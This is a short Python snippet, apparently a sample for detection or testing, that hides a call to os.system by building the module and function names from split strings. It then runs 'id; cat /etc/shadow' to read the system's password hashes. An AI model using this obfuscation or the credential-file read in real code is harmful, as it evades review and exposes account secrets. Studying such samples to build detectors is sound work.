# hides what it calls
m = __import__("o" + "s")
getattr(m, "sy" + "stem")("id; cat /etc/shadow")
